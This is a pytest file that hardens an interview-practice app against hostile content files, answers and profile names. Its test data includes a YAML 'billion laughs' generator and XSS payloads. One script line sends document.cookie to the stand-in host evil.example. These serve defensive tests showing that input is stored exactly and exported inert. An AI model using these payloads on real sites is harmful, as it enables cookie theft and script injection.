"""Hardening: hostile content files, answers and profile names.

Content: every broken file of every kind, loaded in one go next to valid files, is reported as
``file:line: field: message`` while the valid files still load; 5 MB files, "billion laughs" aliases, deep
nesting, control characters and unreadable dates are refused quickly instead of hanging or crashing.
Answers and names: empty, whitespace, 100,000 characters, non-Latin scripts, emoji, HTML, ``<script>`` and
Markdown are stored exactly, graded by both judges, and rendered inert in exports. Where the interview engine is
what is tested (storage, follow-ups, exports), the deterministic fake judge of tests/fakes.py grades.
"""

from __future__ import annotations

import json
import re
import threading
import time
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from simulator.config import LLMConfig
from simulator.content import bank
from simulator.grading.llm_judge import llm_judge
from simulator.grading.spec import spec_from_question
from simulator.interview.runner import MAX_ANSWER_CHARS, InterviewError
from simulator.llm import OpenAICompatibleModel
from simulator.reports import export
from simulator.storage.records import SessionSettings
from simulator.storage.store import Store
from simulator.storage.validation import clean_profile_name
from simulator.untrusted import MAX_UNTRUSTED_CHARS
from tests.content_fixtures import question_yaml, write_content
from tests.fakes import FAKE_JUDGE, fake_runner

PROBLEM_LINE = re.compile(r"^(?P<file>[^:\n]+):(?P<line>[1-9]\d*): (?P<field>[^:\n]+): (?P<message>\S.*)$")
FIVE_MB = 5 * 1024 * 1024


def billion_laughs(levels: int = 9) -> str:
    """A few hundred bytes whose aliases expand to 9**levels strings."""
    lines = ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for n in range(1, levels):
        lines.append(f"l{n}: &l{n} [" + ", ".join([f"*l{n - 1}"] * 9) + "]")
    return "\n".join(lines) + f"\nquestions: *l{levels - 1}\n"


def padded(head: str, size: int = FIVE_MB) -> str:
    return head + "# padding\n" * ((size - len(head)) // 10 + 1)


def test_every_broken_file_is_reported_as_file_line_field_message_and_valid_files_still_load(tmp_path):
    q = question_yaml
    broken_questions = {
        "syntax.yaml": q("q-s").replace("    topic: fundamentals", "    topic: [fundamentals"),
        "missing.yaml": q("q-m").replace("    topic: fundamentals\n", "", 1),
        "wrong-type.yaml": q("q-w").replace("rubrics: [demo-rubric]", "rubrics: demo-rubric"),
        "zz-duplicate.yaml": q("q-one"),
        "unknown-rubric.yaml": q("q-r").replace("rubrics: [demo-rubric]", "rubrics: [no-such-rubric]"),
        "unknown-criterion.yaml": q("q-c").replace("criterion: freshness\n      - prompt",
                                                   "criterion: novelty\n      - prompt"),
        "unknown-knowledge.yaml": q("q-k").replace("demo-notes#retrieval-basics", "lost-notes#retrieval-basics"),
        "empty.yaml": "",
        "comments-only.yaml": "# nothing but a comment\n\n",
        "huge.yaml": padded(q("q-h")),
        "bad-date.yaml": q("q-d").replace("  - id: q-d", "  - id: 2024-13-45"),
        "control-char.yaml": q("q-x").replace("    topic: fundamentals", "    topic: fundamen\x1btals"),
        "nul.yaml": q("q-n").replace("difficulty: easy", "difficulty: ea\x00sy"),
        "deep.yaml": "questions: " + "[" * 3000 + "]" * 3000 + "\n",
        "billion-laughs.yaml": billion_laughs(),
    }
    folders = write_content(tmp_path, {"00-valid.yaml": q("q-one", "q-two"), **broken_questions})
    (folders["question_bank"] / "latin-1.yaml").write_bytes(q("q-l").replace("q-l", "caf\xe9").encode("latin-1"))
    (folders["rubrics"] / "huge-rubric.yaml").write_text(padded("id: huge\n"))
    (folders["rubrics"] / "empty-rubric.yaml").write_text("")
    (folders["knowledge"] / "huge-notes.md").write_text("# Huge\n\n## Section\n" + "words " * (FIVE_MB // 6))
    (folders["knowledge"] / "empty-notes.md").write_text("")

    started = time.perf_counter()
    bundle = bank.load_bundle([folders["question_bank"]], [folders["rubrics"]], [folders["knowledge"]])
    elapsed = time.perf_counter() - started

    assert sorted(bundle.questions) == ["q-one", "q-two"], "the valid file loads next to every broken one"
    assert bundle.question_files["q-one"].endswith("00-valid.yaml")
    assert list(bundle.rubrics) == ["demo-rubric"] and list(bundle.knowledge) == ["demo-notes"]
    assert elapsed < 10, f"loading took {elapsed:.1f} s: aliases or nesting must not blow up"

    found: dict[str, list[tuple[int, str, str]]] = {}
    for problem in bundle.problems:
        match = PROBLEM_LINE.match(str(problem))
        assert match, f"not file:line: field: message: {problem!s:.200}"
        found.setdefault(Path(problem.file).name, []).append((problem.line, problem.field, problem.message))

    def one(name: str) -> tuple[int, str, str]:
        assert len(found.get(name, [])) == 1, (name, found.get(name))
        return found[name][0]

    def line_of(name: str, needle: str) -> int:
        return next(n for n, text in enumerate(broken_questions[name].splitlines(), 1) if needle in text)

    expected = {
        "missing.yaml": (2, "questions[0].topic", "required field is missing"),
        "wrong-type.yaml": (line_of("wrong-type.yaml", "rubrics:"), "questions[0].rubrics", "list"),
        "zz-duplicate.yaml": (2, "questions[0].id", "duplicate question id 'q-one'"),
        "unknown-rubric.yaml": (line_of("unknown-rubric.yaml", "rubrics:"), "questions[0].rubrics[0]",
                                "unknown rubric 'no-such-rubric'"),
        "unknown-criterion.yaml": (line_of("unknown-criterion.yaml", "novelty"),
                                   "questions[0].follow_ups[0].criterion", "unknown criterion 'novelty'"),
        "unknown-knowledge.yaml": (line_of("unknown-knowledge.yaml", "references:"), "questions[0].references[0]",
                                   "unknown knowledge document 'lost-notes'"),
        "empty.yaml": (1, "file", "is empty"),
        "comments-only.yaml": (1, "file", "is empty"),
        "huge.yaml": (1, "file", "is 5.2 MB; the limit is 1 MB"),
        "latin-1.yaml": (1, "file", "is not UTF-8 text"),
        "bad-date.yaml": (2, "yaml", "month must be in 1..12"),
        "control-char.yaml": (line_of("control-char.yaml", "topic:"), "yaml", "character #x001b is not allowed"),
        "nul.yaml": (line_of("nul.yaml", "difficulty:"), "yaml", "character #x0000 is not allowed"),
        "deep.yaml": (1, "yaml", "nesting is too deep"),
        "huge-rubric.yaml": (1, "file", "the limit is 1 MB"),
        "empty-rubric.yaml": (1, "file", "is empty"),
        "huge-notes.md": (1, "file", "the limit is 1 MB"),
        "empty-notes.md": (1, "file", "is empty"),
    }
    for name, (line, field, fragment) in expected.items():
        got_line, got_field, message = one(name)
        assert (got_line, got_field) == (line, field) and fragment in message, (name, got_line, got_field, message)
    assert "put it in quotes" in one("bad-date.yaml")[2]
    syntax_line, syntax_field, syntax_message = one("syntax.yaml")
    assert syntax_field == "yaml" and "syntax error" in syntax_message and 4 <= syntax_line <= 6
    laughs = found["billion-laughs.yaml"]
    assert {field for _, field, _ in laughs} == {f"questions[{i}]" for i in range(9)} | {f"l{i}" for i in range(9)}
    assert all("valid dictionary" in message or "unknown field" in message for _, _, message in laughs)
    assert set(found) == set(expected) | {"syntax.yaml", "billion-laughs.yaml"}


def test_a_billion_laughs_paste_is_checked_in_linear_time():
    """The app checks pasted YAML with the same loader: a 500-byte paste must not hang the server."""
    problems: list[bank.Problem] = []
    done = threading.Event()

    def load() -> None:
        bank.load_question_text(billion_laughs(levels=10), "pasted.yaml", problems)
        done.set()

    threading.Thread(target=load, daemon=True).start()  # daemon: a regression fails here instead of hanging
    assert done.wait(timeout=10), "9**10 aliased strings must not be walked one by one"
    assert problems and all(p.file == "pasted.yaml" for p in problems)
    assert any(p.field == "questions[0]" for p in problems)


# ---------------------------------------------------------------- answers and names

HOSTILE_ANSWERS = {
    "chinese": "我会用检索增强生成来处理经常变化的事实，只用微调来调整语气和格式。更新文档只需要重新建立索引。",
    "arabic": "سأستخدم الاسترجاع للحقائق التي تتغير كثيرًا، والضبط الدقيق فقط للأسلوب والتنسيق.",
    "russian-hindi": "Я бы хранил факты в поиске (RAG). मैं तथ्यों के लिए रिट्रीवल का उपयोग करूँगा।",
    "emoji-only": "🤖📚🔍➡️✅👍🏽👨‍👩‍👧",
    "emoji-mixed": "RAG 📚 keeps facts fresh 🔄 because you re-index documents; fine-tuning 🎛️ is for tone 🎭.",
    "html": ('<b>RAG</b> keeps facts current. <img src=x onerror="alert(1)"> '
             "<iframe src='http://evil.example'></iframe> <a href=\"javascript:alert(2)\">click</a>"),
    "script": "<script>fetch('http://evil.example/?c=' + document.cookie)</script>\nRetrieval keeps facts current.",
    "markdown": ("# I am a heading\n\nSetext heading\n===\n\n---\n\n| a | b |\n|---|---|\n| x | y |\n\n"
                 "[click](javascript:alert(1)) ![pixel](http://evil.example/p.png) <http://evil.example>\n\n"
                 "> a quote\n\n```\nfenced code\n```\n\n**bold** _italic_ ~~struck~~ <!-- hidden -->\n\n1. one\n"
                 "+ plus\n* star\n\n    indented\n\n&lt;script&gt; &#60;b&#62;"),
    "bidi-and-invisible": "\u202eRAG\u202c is\u200b better\ufeff for facts\u2028that change.",
    "control-characters": "RAG\x00 keeps\x07 facts\x1b[2J fresh.\r\nOld Mac line\rend.",
}
CANDIDATE_HTML = ("<script", "<img", "<iframe", "<a ", "<h1>I am", "<h2>Setext", "<th>a</th>", "<strong>bold",
                  "<em>italic", "<del>", "<!-- hidden", "<pre><code>fenced", "<li>one", "<li>plus", "<li>star",
                  "<hr", "&lt;script&gt; &amp;#60;b")
RENDER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


@pytest.fixture
def store(tmp_path):
    with Store(f"sqlite:///{tmp_path / 'hostile.db'}") as opened:
        yield opened


def test_hostile_answers_are_stored_exactly_graded_and_exported_inert(bundle, store):
    # The real judges' grades of these answers: test_both_judges_grade_hostile_answers.
    runner = fake_runner(store, bundle.questions, bundle.rubrics, seed=1)
    profile = "<b>Zoë</b> 👩🏽‍💻 # [me](http://x)"
    session_id = runner.start(profile, SessionSettings(questions=5, follow_ups=1), seed=2)
    runner.next_turn(session_id).commit()
    for text in HOSTILE_ANSWERS.values():
        receipt = runner.answer(session_id, text)
        assert receipt.notices == []
        [grade] = runner.grade_pending(session_id)
        assert grade.status == "scored" and 0 <= grade.overall <= 10 and grade.judge == FAKE_JUDGE
        pending = runner.next_turn(session_id)
        if pending is None:
            break
        pending.commit()
    detail = runner.detail(session_id)
    stored = [a.text for a in detail.answers]
    # NUL cannot be stored by PostgreSQL, so every engine keeps U+FFFD in its place; everything else is exact
    expected = [text.replace("\x00", "\ufffd") for text in HOSTILE_ANSWERS.values()]
    assert stored == expected, "weak answers get a follow-up each: all ten are asked for"
    assert detail.profile == profile

    markdown = export.session_markdown(detail)
    html = RENDER.render(markdown)
    for construct in CANDIDATE_HTML:
        assert construct not in html, construct
    assert "&lt;script&gt;fetch" in html or "&lt;script&gt;" in html
    assert html.count("<h1>") == 1 and "Zoë" in html.split("</h1>")[0], "only our title is a level-1 heading"
    assert 'href="' not in html and 'src="' not in html, "no link or image attribute comes from the candidate"
    restored = export.session_from_json(json.loads(export.session_json_text(detail)))
    assert restored == detail and [a.text for a in restored.answers] == stored


@pytest.mark.parametrize("name", list(HOSTILE_ANSWERS))
def test_both_judges_grade_hostile_answers(runtime, judge, fake_llm, name):
    answer = HOSTILE_ANSWERS[name]
    question = runtime.bundle.questions["scenario-hr-policy-chatbot"]
    spec = spec_from_question(question, runtime.bundle.rubrics)
    offline = judge(spec, answer)
    assert offline.status == "scored" and 0 <= offline.overall <= 10

    first = spec.key_points[0]
    quote = next(piece for piece in re.split(r"[\s.,;。，]+", answer) if len(piece) >= 2)
    criteria = [{"criterion": c.key, "level": 2 if c.key == first.criterion_key else 0, "justification": "Seen.",
                 "quotes": [quote] if c.key == first.criterion_key else [], "passage_ids": []} for c in spec.criteria]
    fake_llm.script(json.dumps({"criteria": criteria, "covered_points": [1], "misconceptions": []}))
    model = OpenAICompatibleModel(LLMConfig(base_url=fake_llm.base_url, model="fake-model", timeout_s=5,
                                            max_retries=0))
    grade = llm_judge(model, lambda query, k: [], max_attempts=1)(spec, answer)
    assert grade.status == "scored", grade.reason
    # a one-word quote proves no key point (the level is lowered to what the quotes carry); whatever is quoted
    # is the answer's own text
    assert not grade.points[0].covered and "evidence-lowered" in grade.flags
    assert all(p.answer_quote.casefold() in answer.casefold() for p in grade.points if p.answer_quote)
    prompt = fake_llm.requests[0]["messages"][1]["content"]
    assert prompt.count("<<<END candidate_answer ") == 1
    assert "\x00" not in prompt and "\u202e" not in prompt and "\x1b" not in prompt


def test_answers_at_and_over_the_limit_in_multibyte_text(runtime, store, fake_llm):
    runner = runtime.runner(store, seed=1)
    session_id = runner.start("long-writer", SessionSettings(questions=2, follow_ups=0), seed=5)
    unit = "检索 keeps facts fresh 🔄. "
    at_limit = (unit * (MAX_ANSWER_CHARS // len(unit) + 1))[:MAX_ANSWER_CHARS]
    over = at_limit + "👍🏽 and more"
    runner.next_turn(session_id).commit()
    assert runner.answer(session_id, at_limit).notices == []
    [grade] = runner.grade_pending(session_id)
    # kept whole, graded in part: the grade says so
    assert grade.status == "scored" and "truncated" in grade.flags and "Only the first 150 sentences" in grade.feedback
    runner.next_turn(session_id).commit()
    receipt = runner.answer(session_id, over)
    assert receipt.notices == [f"Your answer had {len(over):,} characters; only the first 100,000 are kept."]
    [grade] = runner.grade_pending(session_id)
    assert grade.status == "scored"
    first, second = runner.detail(session_id).answers
    assert first.text == at_limit and first.meta == {}
    assert second.text == at_limit and second.meta == {"truncated_from_chars": len(over)}
    with store.engine.connect() as conn:
        stored_bytes = conn.exec_driver_sql("SELECT length(CAST(text AS BLOB)) FROM turns WHERE id = ?",
                                            (second.id,)).scalar()
    assert stored_bytes == len(at_limit.encode("utf-8")) > MAX_ANSWER_CHARS

    # The LLM judge gets the answer capped inside the fence, with the cut noted, and still grades it.
    asked = runner.detail(session_id).turns[-2]
    spec = spec_from_question(asked.question(), asked.rubrics())
    criteria = [{"criterion": c.key, "level": 1, "justification": "Long.", "quotes": ["keeps facts fresh"],
                 "passage_ids": []} for c in spec.criteria]
    fake_llm.script(json.dumps({"criteria": criteria, "covered_points": [], "misconceptions": []}))
    model = OpenAICompatibleModel(LLMConfig(base_url=fake_llm.base_url, model="fake-model", max_retries=0))
    llm_grade = llm_judge(model, lambda query, k: [], max_attempts=1)(spec, second.text)
    # "keeps facts fresh" is too short to prove a key point: scored, with the level lowered to what it carries
    assert llm_grade.status == "scored" and llm_grade.overall == 0.0 and "evidence-lowered" in llm_grade.flags
    prompt = fake_llm.requests[0]["messages"][1]["content"]
    assert f"[... truncated: {MAX_ANSWER_CHARS - MAX_UNTRUSTED_CHARS} more characters not shown]" in prompt
    assert len(prompt) < MAX_UNTRUSTED_CHARS + 20_000


def test_empty_and_whitespace_answers_are_refused_and_nothing_is_stored(bundle, store):
    runner = fake_runner(store, bundle.questions, bundle.rubrics, seed=1)
    session_id = runner.start("quiet", SessionSettings(questions=1), seed=1)
    runner.next_turn(session_id).commit()
    for empty in ("", " ", "\n\n\t ", "\u3000", "\u00a0\u2003"):
        with pytest.raises(InterviewError, match="empty"):
            runner.answer(session_id, empty)
    detail = runner.detail(session_id)
    assert [t.kind for t in detail.turns] == ["question"] and detail.answers == []
    runner.answer(session_id, "I don't know.")
    assert runner.grade_pending(session_id)[0].status == "scored"


@pytest.mark.parametrize(("raw", "stored"), [
    ("  Zoë 👩🏽‍💻  ", "Zoë 👩🏽‍💻"),
    ("Zoe\u0308", "Zoë"),  # NFD and NFC spellings are one profile
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("# [me](http://x) | **bold**", "# [me](http://x) | **bold**"),
    ("محمد", "محمد"),
    ("李" * 60, "李" * 60),
])
def test_profile_names_are_kept_exactly_and_exported_inert(bundle, store, raw, stored):
    runner = fake_runner(store, bundle.questions, bundle.rubrics, seed=1)
    session_id = runner.start(raw, SessionSettings(questions=1), seed=1)
    assert clean_profile_name(raw) == stored
    detail = runner.detail(session_id)
    assert detail.profile == stored and store.open_session_for(raw).id == session_id
    title = RENDER.render(export.session_markdown(detail)).split("</h1>")[0]
    assert "<script" not in title and "href" not in title and "<strong>" not in title and "<table" not in title
    assert [p.name for p in store.list_profiles()] == [stored]


@pytest.mark.parametrize("raw", ["", "   ", "a\nb", "tab\there", "x" * 61, "李" * 61, "nul\x00", "bell\x07",
                                 "line\u2028sep"])
def test_bad_profile_names_are_refused_before_anything_is_written(bundle, store, raw):
    runner = fake_runner(store, bundle.questions, bundle.rubrics, seed=1)
    with pytest.raises(ValueError, match="profile name"):
        runner.start(raw, SessionSettings(questions=1), seed=1)
    with store.engine.connect() as conn:
        assert conn.exec_driver_sql("SELECT count(*) FROM profiles").scalar() == 0
        assert conn.exec_driver_sql("SELECT count(*) FROM sessions").scalar() == 0
